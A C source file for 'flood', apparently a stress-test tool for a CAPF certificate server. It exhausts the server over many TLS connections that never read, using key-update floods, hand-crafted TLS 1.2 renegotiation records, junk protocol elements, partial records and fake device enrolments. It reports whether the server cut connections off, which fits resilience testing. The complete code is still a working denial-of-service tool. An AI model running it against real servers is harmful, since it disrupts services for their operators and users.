/* SPDX-License-Identifier: ISC */
/* flood: a peer that keeps a CAPF server busy with what costs itself next to nothing, and never reads.
 *
 * usage: flood [-bk] [-d first] [-m records] [-n connections] [-r rate] [-t seconds] kind address port
 *
 *	-b	sends a byte of a long message before each record, so that the records are not without data
 *	-d	says that it is SEP and twelve digits, before it begins, and is asked for a key; the first connection has
 *		this number, the next one the next
 *	-k	sends one, an EC key on P-256, and so waits for the CA
 *	-m	so many records a connection (100000)
 *	-n	so many connections (1); 0: one after the other until SIGTERM
 *	-r	so many connections a second, each at its own time, not one after the other
 *	-t	how long each waits for the server to end it, once it can send no more (60)
 *
 * Kinds: key-update, key-update-asked (which wants an answer), renegotiate (TLS 1.2), elements (REQUEST_IN_PROGRESS
 * with elements that nobody knows), part (the first bytes of a record, and no more).
 *
 * Says what came of it: connections that began, records that the system took, how many connections
 * the server broke off, how many it had stopped to read, the longest that one lasted. Exit status 0 when it has said that. */
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <openssl/core_names.h>
#include <openssl/ec.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>

/* Of a message that is sent byte by byte: one that comes to its end has to do so in time. */
#define LONG_BODY (how.device > 0 ? 1000 : 16000)
#define ELEMENTS 64		/* of a REQUEST_IN_PROGRESS */
#define HELLO_MAX 2048
#define BLOCKED_MS 500		/* for so long nothing could be written: the server does not read */
#define PAUSE_MS 20

enum kind { KEY_UPDATE, KEY_UPDATE_ASKED, RENEGOTIATE, IN_PROGRESS, PART };

static const char *const kinds[] = {"key-update", "key-update-asked", "renegotiate", "elements", "part"};

static struct {
	enum kind kind;
	const char *address, *port;
	long device, records, connections, rate, patience;
	bool pays, key;
} how = {.records = 100000, .connections = 1, .patience = 60};

/* Shared by all processes. */
static struct totals {
	atomic_long began, sent, ended, blocked, longest_ms;
} *sum;

struct peer {
	int fd;
	SSL *ssl;
	unsigned char hello[HELLO_MAX], session[4], key[16], salt[4];
	size_t hello_len;
	uint64_t sequence;
	long paid;		/* bytes of the long message */
	bool blocked;		/* the server does not read */
};

static volatile sig_atomic_t stop;

static void on_term(int number)
{
	(void)number;
	stop = 1;
}

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "flood: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(111);
}

static long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void keep_hello(int sent, int version, int type, const void *p, size_t len, SSL *ssl, void *ctx)
{
	struct peer *peer = ctx;

	(void)version;
	(void)ssl;
	if (sent && type == SSL3_RT_HANDSHAKE && peer->hello_len == 0 && len <= sizeof peer->hello) {
		memcpy(peer->hello, p, len);
		peer->hello_len = len;
	}
}

/* What the server has to say fills a small buffer soon. With one that is much smaller the kernel throws away what it
 * cannot keep, acknowledgements included, and both sides stand still for seconds. */
static int call(void)
{
	struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV, .ai_socktype = SOCK_STREAM}, *at;
	int fd, buffer = 32768, one = 1;

	if (getaddrinfo(how.address, how.port, &hints, &at) != 0 ||
	    (fd = socket(at->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0)
		die("no socket");
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof buffer);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	if (connect(fd, at->ai_addr, at->ai_addrlen) != 0) {
		close(fd);
		fd = -1;
	}
	freeaddrinfo(at);
	return fd;
}

enum result { SENT, BLOCKED, BROKEN };

/* BLOCKED: for so long there was nothing. */
static enum result wait_for(int fd, short what, int ms)
{
	struct pollfd p = {.fd = fd, .events = (short)(what | POLLRDHUP)};
	int n = poll(&p, 1, ms);

	if (n > 0 && (p.revents & (POLLERR | POLLHUP | POLLRDHUP)) != 0)
		return BROKEN;
	return n > 0 ? SENT : BLOCKED;
}

/* A server that was only slow reads on after a while, and then so much more is sent. */
static enum result until_writable(struct peer *p)
{
	long until = now_ms() + how.patience * 1000;
	enum result result;

	while ((result = wait_for(p->fd, POLLOUT, BLOCKED_MS)) == BLOCKED && now_ms() < until && !stop)
		p->blocked = true;
	if (result == SENT)
		p->blocked = false;
	return result;
}

static enum result tls_result(struct peer *p, int result)
{
	if (result > 0)
		return SENT;
	return SSL_get_error(p->ssl, result) == SSL_ERROR_WANT_WRITE ? until_writable(p) : BROKEN;
}

/* Again and again, until it is all out. */
static enum result put_data(struct peer *p, const void *data, size_t len)
{
	enum result result;
	int n;

	do
		result = tls_result(p, n = SSL_write(p->ssl, data, (int)len));
	while (result == SENT && n <= 0);
	return result;
}

static enum result put_key_update(struct peer *p)
{
	enum result result;
	int n;

	if (!SSL_key_update(p->ssl, how.kind == KEY_UPDATE_ASKED ? SSL_KEY_UPDATE_REQUESTED :
	    SSL_KEY_UPDATE_NOT_REQUESTED))
		die("cannot update the key");
	do
		result = tls_result(p, n = SSL_do_handshake(p->ssl));
	while (result == SENT && n <= 0);
	return result;
}

static enum result put_raw(struct peer *p, const unsigned char *from, size_t len)
{
	while (len > 0) {
		ssize_t n = send(p->fd, from, len, MSG_DONTWAIT | MSG_NOSIGNAL);
		enum result result = SENT;

		if (n > 0) {
			from += n;
			len -= (size_t)n;
		} else
			result = errno == EAGAIN ? until_writable(p) : BROKEN;
		if (result != SENT)
			return result;
	}
	return SENT;
}

/* The client's key and salt for AES-128-GCM. OpenSSL lets nobody renegotiate twice without an answer, so from here
 * on records are made by hand. RFC 5246, 6.3; RFC 5288. */
static void take_keys(struct peer *p)
{
	unsigned char master[48], seed[13 + 64] = "key expansion", block[40];
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
	EVP_KDF_CTX *ctx = EVP_KDF_CTX_new(kdf);
	OSSL_PARAM params[4];

	SSL_SESSION_get_master_key(SSL_get_session(p->ssl), master, sizeof master);
	SSL_get_server_random(p->ssl, seed + 13, 32);
	SSL_get_client_random(p->ssl, seed + 45, 32);
	params[0] = OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST, (char[]){"SHA256"}, 0);
	params[1] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SECRET, master, sizeof master);
	params[2] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SEED, seed, sizeof seed);
	params[3] = OSSL_PARAM_construct_end();
	if (ctx == NULL || EVP_KDF_derive(ctx, block, sizeof block, params) <= 0)
		die("cannot derive keys");
	memcpy(p->key, block, sizeof p->key);
	memcpy(p->salt, block + 32, sizeof p->salt);
	/* Finished was the first record. */
	p->sequence = 1;
	EVP_KDF_CTX_free(ctx);
	EVP_KDF_free(kdf);
}

static enum result put_record(struct peer *p, unsigned char type, const unsigned char *from, size_t len)
{
	unsigned char record[5 + 8 + HELLO_MAX + 16], aad[13], nonce[12];
	EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
	size_t body = 8 + len + 16;
	int n;

	for (int i = 0; i < 8; i++)
		aad[i] = record[5 + i] = (unsigned char)(p->sequence >> (56 - 8 * i));
	p->sequence++;
	memcpy(nonce, p->salt, 4);
	memcpy(nonce + 4, aad, 8);
	memcpy(aad + 8, (unsigned char[]){type, 3, 3, (unsigned char)(len >> 8), (unsigned char)len}, 5);
	memcpy(record, (unsigned char[]){type, 3, 3, (unsigned char)(body >> 8), (unsigned char)body}, 5);
	if (ctx == NULL || EVP_EncryptInit_ex(ctx, EVP_aes_128_gcm(), NULL, p->key, nonce) <= 0 ||
	    EVP_EncryptUpdate(ctx, NULL, &n, aad, sizeof aad) <= 0 ||
	    EVP_EncryptUpdate(ctx, record + 13, &n, from, (int)len) <= 0 ||
	    EVP_EncryptFinal_ex(ctx, record + 13 + len, &n) <= 0 ||
	    EVP_CIPHER_CTX_ctrl(ctx, EVP_CTRL_GCM_GET_TAG, 16, record + 13 + len) <= 0)
		die("cannot encrypt");
	EVP_CIPHER_CTX_free(ctx);
	return put_raw(p, record, 5 + body);
}

/* REQUEST_IN_PROGRESS with elements of tag 200, all empty. */
static enum result put_elements(struct peer *p)
{
	unsigned char m[8 + 3 * ELEMENTS] = {0x55, 17, p->session[0], p->session[1], p->session[2],
	    p->session[3], 0, 3 * ELEMENTS};

	for (int i = 0; i < ELEMENTS; i++)
		memcpy(m + 8 + 3 * i, "\xc8\0\0", 3);
	return put_data(p, m, sizeof m);
}

/* The next byte of a message that is long and, in the end, means nothing: one element that nobody knows. */
static enum result put_byte(struct peer *p)
{
	const unsigned char head[11] = {0x55, how.device > 0 ? 17 : 2, p->session[0], p->session[1],
	    p->session[2], p->session[3], (unsigned char)(LONG_BODY >> 8), LONG_BODY & 255, 0xc8,
	    (unsigned char)((LONG_BODY - 3) >> 8),
	    (LONG_BODY - 3) & 255};
	unsigned char one = (size_t)p->paid < sizeof head ? head[p->paid] : 0;

	p->paid = (p->paid + 1) % (8 + LONG_BODY);
	return how.kind == RENEGOTIATE ? put_record(p, SSL3_RT_APPLICATION_DATA, &one, 1) : put_data(p, &one, 1);
}

static enum result put_one(struct peer *p)
{
	enum result result = how.pays ? put_byte(p) : SENT;

	if (result != SENT)
		return result;
	switch (how.kind) {
	case KEY_UPDATE:
	case KEY_UPDATE_ASKED:
		return put_key_update(p);
	case RENEGOTIATE:
		return put_record(p, SSL3_RT_HANDSHAKE, p->hello, p->hello_len);
	case IN_PROGRESS:
		return put_elements(p);
	case PART:
		return put_raw(p, (const unsigned char *)"\x17\x03\x03", 3);
	}
	return BROKEN;
}

static bool get_all(const struct peer *p, unsigned char *to, size_t len)
{
	for (size_t at = 0; at < len;) {
		int n = SSL_read(p->ssl, to + at, (int)(len - at));

		if (n <= 0)
			return false;
		at += (size_t)n;
	}
	return true;
}

/* The command of the next message; 0 when there is none. */
static int get_message(struct peer *p)
{
	unsigned char head[8], body[65536];

	if (!get_all(p, head, sizeof head) || !get_all(p, body, (size_t)(head[6] << 8 | head[7])))
		return 0;
	memcpy(p->session, head + 2, 4);
	return head[1];
}

static void put_message(const struct peer *p, unsigned char command, const unsigned char *body, size_t len)
{
	unsigned char m[1024] = {0x55, command, p->session[0], p->session[1], p->session[2], p->session[3],
	    (unsigned char)(len >> 8), (unsigned char)len};

	memcpy(m + 8, body, len);
	if (SSL_write(p->ssl, m, (int)(8 + len)) <= 0)
		die("cannot send a message");
}

/* Until it is asked for a key, or, with one, waits for the CA. */
static void enrol(struct peer *p, long device)
{
	unsigned char body[512] = {7, 0, 1, 3, 1, 0, 1, 1, 13, 0, 16}, *spki = NULL;
	EVP_PKEY *key;
	int n;

	if (get_message(p) != 1)
		die("the server did not ask who it is");
	snprintf((char *)body + 11, 16, "SEP%012ld", device % 1000000000000);
	put_message(p, 2, body, 11 + 16);
	if (get_message(p) != 3)
		die("the server did not ask for a key");
	if (!how.key)
		return;
	if ((key = EVP_EC_gen("P-256")) == NULL || (n = i2d_PUBKEY(key, &spki)) <= 0 || n > 500)
		die("cannot make a key");
	memcpy(body, (unsigned char[]){9, 0, (unsigned char)n}, 3);
	memcpy(body + 3, spki, (size_t)n);
	put_message(p, 4, body, 3 + (size_t)n);
	OPENSSL_free(spki);
	EVP_PKEY_free(key);
}

static bool open_tls(struct peer *p, SSL_CTX *ctx)
{
	if ((p->fd = call()) < 0 || (p->ssl = SSL_new(ctx)) == NULL || !SSL_set_fd(p->ssl, p->fd))
		return false;
	SSL_set_msg_callback(p->ssl, keep_hello);
	SSL_set_msg_callback_arg(p->ssl, p);
	return SSL_connect(p->ssl) == 1;
}

/* One connection, to its end. */
static void attack(SSL_CTX *ctx, long number)
{
	long start = now_ms(), lasted, longest = sum->longest_ms;
	struct peer p = {.fd = -1};
	enum result result = SENT;
	long until;

	if (!open_tls(&p, ctx)) {
		/* The signal interrupts a handshake as well. */
		if (!stop)
			die("no connection");
		SSL_free(p.ssl);
		close(p.fd);
		return;
	}
	if (how.device > 0)
		enrol(&p, how.device + number);
	if (how.kind == RENEGOTIATE)
		take_keys(&p);
	fcntl(p.fd, F_SETFL, O_NONBLOCK);
	sum->began++;
	for (long i = 0; i < how.records && result == SENT && !stop; i++)
		if ((result = put_one(&p)) == SENT)
			sum->sent++;
	sum->blocked += p.blocked;
	/* One that is blocked has waited already. */
	until = now_ms() + (result == BLOCKED ? 0 : how.patience * 1000);
	while (result != BROKEN && now_ms() < until && !stop)
		result = wait_for(p.fd, 0, 1000);
	sum->ended += result == BROKEN;
	lasted = now_ms() - start;
	while (lasted > longest && !atomic_compare_exchange_weak(&sum->longest_ms, &longest, lasted))
		;
	SSL_free(p.ssl);
	close(p.fd);
}

static void pause_ms(long ms)
{
	nanosleep(&(struct timespec){ms / 1000, ms % 1000 * 1000000}, NULL);
}

/* A process each: they wait for the server, and not for one another. */
static void attack_by_rate(SSL_CTX *ctx)
{
	long start = now_ms();
	int status;

	for (long i = 0; i < how.connections; i++) {
		long left = start + i * 1000 / how.rate - now_ms();

		if (left > 0)
			pause_ms(left);
		if (fork() == 0) {
			attack(ctx, i);
			_exit(0);
		}
	}
	for (long i = 0; i < how.connections; i++)
		if (wait(&status) < 0 || status != 0)
			die("one of them failed");
}

int main(int argc, char *argv[])
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	int opt;

	while ((opt = getopt(argc, argv, "bd:km:n:r:t:")) != -1) {
		switch (opt) {
		case 'b': how.pays = true; break;
		case 'd': how.device = atol(optarg); break;
		case 'k': how.key = true; break;
		case 'm': how.records = atol(optarg); break;
		case 'n': how.connections = atol(optarg); break;
		case 'r': how.rate = atol(optarg); break;
		case 't': how.patience = atol(optarg); break;
		default: return 100;
		}
	}
	while (argc - optind == 3 && how.kind <= PART && strcmp(kinds[how.kind], argv[optind]) != 0)
		how.kind++;
	if (argc - optind != 3 || how.kind > PART) {
		fprintf(stderr, "usage: flood [-bk] [-d first] [-m records] [-n connections] [-r rate] [-t seconds] "
		    "kind address port\n");
		return 100;
	}
	how.address = argv[optind + 1];
	how.port = argv[optind + 2];
	sum = mmap(NULL, sizeof *sum, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sum == MAP_FAILED || ctx == NULL)
		die("out of memory");
	if (how.kind == RENEGOTIATE && (!SSL_CTX_set_max_proto_version(ctx, TLS1_2_VERSION) ||
	    !SSL_CTX_set_cipher_list(ctx, "ECDHE+AES128+AESGCM")))
		die("no such TLS");
	SSL_CTX_set_mode(ctx, SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
	signal(SIGPIPE, SIG_IGN);
	sigaction(SIGTERM, &(struct sigaction){.sa_handler = on_term}, NULL);
	if (how.rate > 0)
		attack_by_rate(ctx);
	else
		for (long i = 0; (how.connections == 0 || i < how.connections) && !stop; i++) {
			if (i > 0)
				pause_ms(PAUSE_MS);
			attack(ctx, i);
		}
	printf("began=%ld sent=%ld ended=%ld blocked=%ld longest_ms=%ld\n", sum->began, sum->sent, sum->ended,
	    sum->blocked, sum->longest_ms);
	SSL_CTX_free(ctx);
	return fflush(stdout) == 0 ? 0 : 111;
}
